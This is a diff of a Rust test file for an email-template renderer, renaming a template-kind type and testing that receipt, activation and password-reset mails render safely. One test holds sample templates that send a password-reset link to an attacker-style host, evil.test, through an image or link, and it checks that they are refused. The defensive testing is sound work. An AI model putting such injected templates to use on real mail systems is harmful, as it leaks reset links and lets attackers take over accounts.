@@ -1,6 +1,6 @@
 //! Allowed and refused templates, and their output.
 
-use crate::mail::{Kind, Problem, TemplateError, Values, check, render};
+use crate::mail::{MailKind, Problem, TemplateError, Values, check, render};
 
 fn site() -> url::Url {
     "https://sabi.example".parse().unwrap()
@@ -179,19 +179,19 @@ fn elements_a_hundred_deep_are_refused_and_siblings_are_not() {
 
 #[test]
 fn the_templates_as_they_come() {
-    for kind in Kind::ALL.iter().copied() {
-        assert_eq!(Kind::from_slug(kind.slug()), Some(kind));
+    for kind in MailKind::ALL.iter().copied() {
+        assert_eq!(MailKind::from_slug(kind.slug()), Some(kind));
         assert_eq!(kind.check(kind.subject(), kind.content(), &site()), [], "{kind:?}");
         let mail = kind.render(kind.subject(), kind.content(), &site(), &kind.samples()).unwrap();
         assert!(!mail.html.contains("http-equiv") && !mail.html.contains("<script"), "{kind:?}");
         insta::assert_snapshot!(kind.slug(), format!("Subject: {}\n\n{}\n{}", mail.subject, mail.text, mail.html));
     }
-    assert_eq!(Kind::from_slug("other"), None);
+    assert_eq!(MailKind::from_slug("other"), None);
 }
 
 #[test]
 fn a_receipt_names_university_and_reference_where_there_are_any() {
-    let kind = Kind::SubscriptionReceipt;
+    let kind = MailKind::SubscriptionReceipt;
     let values = kind.samples().text("university", "").text("reference", "");
     let text = kind.render(kind.subject(), kind.content(), &site(), &values).unwrap().text;
     assert!(text.contains("* Exam: POST UTME\n* Paid: ₦2,500 on 2 Mar 2026\n"), "{text}");
@@ -199,7 +199,7 @@ fn a_receipt_names_university_and_reference_where_there_are_any() {
 
 #[test]
 fn activation_and_reset_need_their_link() {
-    for kind in [Kind::Activation, Kind::PasswordReset] {
+    for kind in [MailKind::Activation, MailKind::PasswordReset] {
         let problems = kind.check("S", "<p>Hello {{ first_name }}</p>", &site());
         assert_eq!(problems.iter().map(|problem| problem.placeholder.as_deref()).collect::<Vec<_>>(), [Some("link")]);
     }
@@ -210,7 +210,7 @@ fn a_template_that_is_older_than_the_rule_sends_no_link_elsewhere() {
     for content in
         ["<img src=\"https://evil.test/{{ link }}\">", "<a href=\"https://evil.test/{{ link }}\">x</a>", "{{ link }}"]
     {
-        let kind = Kind::PasswordReset;
+        let kind = MailKind::PasswordReset;
         let refused = kind.render("S", content, &site(), &kind.samples());
         assert!(matches!(refused, Err(TemplateError::Template(_))), "{content}");
     }
